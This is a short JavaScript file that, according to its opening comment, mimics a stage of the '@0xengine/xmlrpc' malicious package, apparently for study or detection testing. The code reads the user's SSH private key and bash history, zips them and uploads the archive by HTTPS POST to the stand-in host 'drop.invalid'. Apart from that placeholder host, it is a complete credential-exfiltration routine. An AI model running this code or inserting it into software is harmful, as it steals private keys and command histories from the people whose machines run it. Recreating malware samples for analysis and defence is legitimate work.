// Mimics the @0xengine/xmlrpc stage: gather SSH keys and shell history, zip them, upload (defanged).
const os = require('os');
const path = require('path');
const fs = require('fs');
const AdmZip = require('adm-zip');
const https = require('https');

const home = os.homedir();
const zip = new AdmZip();
for (const file of [path.join(home, '.ssh', 'id_rsa'), path.join(home, '.bash_history')]) {
  if (fs.existsSync(file)) zip.addFile(path.basename(file), fs.readFileSync(file));
}
const req = https.request({ host: 'drop.invalid', method: 'POST', path: '/upload' });
req.end(zip.toBuffer());
